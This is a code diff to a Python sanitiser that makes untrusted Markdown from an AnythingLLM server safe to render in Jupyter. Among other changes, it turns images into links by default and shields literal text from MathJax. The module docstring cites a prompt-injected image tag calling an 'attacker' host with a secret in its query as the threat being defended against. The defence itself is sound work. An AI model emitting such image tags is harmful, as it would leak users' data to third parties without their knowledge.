@@ -23,9 +23,18 @@ it re-emits it in a canonical form that every renderer must read the same way:
   which looks the same, in a table too;
 * a fenced code block is re-emitted with a fence longer than any backtick run inside it, every line
   at the opener's indent, and always closed, so no renderer can end it early and read the rest of it
-  as Markdown.
+  as Markdown;
+* an image becomes a link to it unless images are asked for (``images=True``): an image loads the
+  moment it renders, so a prompt-injected ``![](https://attacker/?q=secret)`` would send data away
+  without a click.
 
 Everything else (emphasis, lists, tables, headings, block quotes, math) renders as Markdown.
+
+Literal text (names, titles, snippets, errors) is different: it must read exactly as written, so
+:func:`literal_markdown` turns all its punctuation into references and, where it holds ``$`` or
+``\\``, wraps it in a span that MathJax skips. The references alone do not do: JupyterLab hides
+``$…$`` from the Markdown parser, then MathJax typesets whatever ``$`` pairs the rendered page holds,
+references included.
 """
 
 from __future__ import annotations
@@ -82,10 +91,14 @@ _URL_SAFE = "/:?#@!$&*+,;=%~"
 # Backslash escapes are not: marked, JupyterLab's renderer, un-escapes "\[" inside link text.
 _REFERENCES = {char: f"&#{ord(char)};" for char in string.punctuation}
 _REFERENCES.update({"<": "&lt;", ">": "&gt;", "&": "&amp;"})
+_TEX_DELIMITER = re.compile(r"[$\\]")
+# MathJax's class for "no math in here": 3.x reads mathjax_ignore, 2.x tex2jax_ignore.
+_NO_MATH = '<span class="tex2jax_ignore mathjax_ignore">{}</span>'
 
 
-def escape_markdown_html(text: str) -> str:
-    """Make untrusted server Markdown safe to show: no raw HTML, only http(s)/mailto links.
+def escape_markdown_html(text: str, *, images: bool = False) -> str:
+    """Make untrusted server Markdown safe to show: no raw HTML, only http(s)/mailto links, and
+    images only with ``images=True`` (else links to them).
 
     Normal Markdown still renders; code keeps its exact text. See the module docstring for how.
     """
@@ -99,7 +112,7 @@ def escape_markdown_html(text: str) -> str:
                 # Streaming re-renders the same lines many times, so complete lines are memoized;
                 # the last line may still be growing, and caching each prefix would evict the rest.
                 escape = _escape_line if number < len(lines) else _escape_line.__wrapped__
-                out.append(escape(line))
+                out.append(escape(line, images))
         elif fence.is_closed_by(line):
             out.extend(fence.lines())
             fence = None
@@ -113,12 +126,13 @@ def escape_markdown_html(text: str) -> str:
 
 
 def escape_table_cell(text: str) -> str:
-    """Untrusted text as one Markdown table cell: one line, escaped, no ``|`` that splits it.
+    """Untrusted Markdown as one table cell: one line, escaped, no ``|`` that splits it.
 
     Only inline escaping applies: a cell cannot hold a block, so a fence opener in it (a history
-    entry cut after its opening backticks) must not become one.
+    entry cut after its opening backticks) must not become one. For text that must read exactly as
+    written (a name), use :func:`literal_markdown`.
     """
-    return _escape_line(" ".join(text.split())).replace("|", "&#124;")
+    return _escape_line(" ".join(text.split()), False).replace("|", "&#124;")
 
 
 @dataclass
@@ -162,20 +176,21 @@ class _Fence:
 
 
 @lru_cache(maxsize=1 << 14)
-def _escape_line(line: str) -> str:
+def _escape_line(line: str, images: bool) -> str:
     start = _LINE_PREFIX.match(line).end()  # type: ignore[union-attr]  # matches the empty string
     if not _SPECIAL.search(line, start):
         return line
-    return line[:start] + _Line(line, start).render()
+    return line[:start] + _Line(line, start, images).render()
 
 
 class _Line:
     """One line outside code fences. Code spans and links never cross lines, so they cannot cross
     a block boundary the renderer sees and we do not."""
 
-    def __init__(self, line: str, start: int) -> None:
+    def __init__(self, line: str, start: int, images: bool) -> None:
         self.line = line
         self.start = start
+        self.images = images
         self.tokens: list[tuple[int, int]] = []
         self.spans: dict[int, int] = {}
         """Token index of a whole code span -> the length of its backtick fences."""
@@ -254,8 +269,12 @@ class _Line:
         url = _safe_url(_unescape(raw), image=image)
         inner = (self.tokens[opener][1], self.tokens[close][0])
         if image:
-            alt = _literal(_unescape(self.line[inner[0] : inner[1]]))
-            return (f"![{alt}]({url})" if url else alt), target.end()
+            alt = _unescape(self.line[inner[0] : inner[1]])
+            if url and self.images:
+                return f"![{_references(alt)}]({url})", target.end()
+            if url and not in_link:  # a link to the image: it loads only if the reader clicks
+                return f"[🖼 {literal_markdown(alt or 'image')}]({url})", target.end()
+            return literal_markdown(alt), target.end()
         text = self._render(opener + 1, close, *inner, in_link=True)
         return (f"[{text}]({url})" if url else text), target.end()
 
@@ -265,7 +284,7 @@ class _Line:
             return None
         shown = match[1] or match[2]
         url = _safe_url(match[1] or f"mailto:{match[2]}", image=False)
-        return (f"[{_literal(shown)}]({url})", match.end()) if url else None
+        return (f"[{literal_markdown(shown)}]({url})", match.end()) if url else None
 
 
 @lru_cache
@@ -303,12 +322,19 @@ def _safe_url(url: str, *, image: bool) -> str | None:
     return quote(url, safe=_URL_SAFE, errors="replace").replace("&", "&amp;")
 
 
-def _literal(text: str) -> str:
-    """One line of Markdown that shows ``text`` as it is (whitespace collapsed), never as markup.
+def _references(text: str) -> str:
+    """``text`` on one line with its Markdown punctuation as references: for an attribute (alt).
 
     Quotes are references too: marked puts image alt text into the attribute without escaping them.
     """
     return _LITERAL_SPECIAL.sub(_reference, " ".join(text.split()))
+
+
+def literal_markdown(text: str) -> str:
+    """One line of Markdown that reads exactly as ``text`` (whitespace collapsed) in every front
+    end: never markup, never math (see the module docstring)."""
+    shown = _references(text)
+    return _NO_MATH.format(shown) if _TEX_DELIMITER.search(text) else shown
 
 
 def _shorten(text: str, limit: int = SNIPPET_CHARS) -> str:
@@ -366,22 +392,31 @@ def status_line(workspace: str | None, elapsed: float, thoughts: Sequence[str] =
     seconds = f"{max(0, int(elapsed))} s"
     thought = next((t for t in reversed(thoughts) if t.strip()), None)
     if thought is not None:
-        return f"⏳ {_literal(thought)} · {seconds}"
-    asked = f"*{_literal(workspace)}*" if workspace else "AnythingLLM"
+        return f"⏳ {literal_markdown(thought)} · {seconds}"
+    asked = f"*{literal_markdown(workspace)}*" if workspace else "AnythingLLM"
     return f"⏳ Asking {asked}… {seconds}"
 
 
 def render_markdown(
-    reply: Reply, *, status: str | None = None, final: bool = False, error_below: bool = False
+    reply: Reply,
+    *,
+    status: str | None = None,
+    final: bool = False,
+    error_below: bool = False,
+    show_images: bool = False,
 ) -> str:
-    """The notebook output: reasoning (collapsed), answer, markers, sources and footer."""
+    """The notebook output: reasoning (collapsed), answer, markers, sources and footer.
+
+    Images in the answer are links to them unless ``show_images``; ``error_below``: see
+    :func:`_ending`.
+    """
     reasoning, answer = split_reasoning(reply.text)
     ending = _ending(reply, final, error_below)
     parts: list[str] = []
     if reasoning and reasoning.strip():
-        parts.append(_details("Reasoning", escape_markdown_html(reasoning)))
+        parts.append(_details("Reasoning", escape_markdown_html(reasoning, images=show_images)))
     if answer.strip():
-        body = escape_markdown_html(answer)
+        body = escape_markdown_html(answer, images=show_images)
         parts.append(_quote(f"ℹ️ **{_REFUSAL}:**\n\n{body}") if reply.refusal else body)
     elif ending is None and not final:
         waiting = "⏳ Thinking…" if reasoning else status_line(reply.workspace, 0.0, reply.thoughts)
@@ -389,14 +424,14 @@ def render_markdown(
     elif ending is None:
         parts.append("*(no answer)*")
     if names := _file_names(reply):
-        parts.append("📎 **Files:** " + ", ".join(map(_literal, names)))
+        parts.append("📎 **Files:** " + ", ".join(map(literal_markdown, names)))
     if ending is not None:
-        parts.append(f"**{ending[0]}:** {_literal(ending[1])}")
+        parts.append(f"**{ending[0]}:** {literal_markdown(ending[1])}")
     if final and reply.sources:
         items = "\n".join(_source_item(n, s) for n, s in enumerate(reply.sources, 1))
         parts.append(_details(f"Sources ({len(reply.sources)})", items))
     if final and reply.metrics and (footer := _footer_parts(reply.metrics)):
-        parts.append("*" + " · ".join(map(_literal, footer)) + "*")
+        parts.append("*" + " · ".join(map(literal_markdown, footer)) + "*")
     return "\n\n".join(parts)
 
 
@@ -410,13 +445,13 @@ def _quote(markdown: str) -> str:
 
 
 def _source_item(number: int, source: Source) -> str:
-    title = _literal(source.title)
+    title = literal_markdown(source.title)
     url = _safe_url(source.link, image=False) if source.link else None
     item = f"{number}. **[{title}]({url})**" if url else f"{number}. **{title}**"
     if score := _score(source):
         item += f" · {score}"
     if snippet := _shorten(source.snippet):
-        item += f"<br>{_literal(snippet)}"
+        item += f"<br>{literal_markdown(snippet)}"
     return item
 
 
@@ -449,10 +484,10 @@ def _plain_source(number: int, source: Source) -> str:
 
 
 def markdown_table(headers: Sequence[str], rows: Sequence[Sequence[object]]) -> str:
-    """A Markdown table whose every cell is escaped server text."""
+    """A Markdown table whose every cell is server text shown literally (no markup, no math)."""
     lines = ["| " + " | ".join(headers) + " |", "|" + "---|" * len(headers)]
     lines += [
-        "| " + " | ".join(escape_table_cell("" if v is None else str(v)) for v in row) + " |"
+        "| " + " | ".join(literal_markdown("" if v is None else str(v)) for v in row) + " |"
         for row in rows
     ]
     return "\n".join(lines)
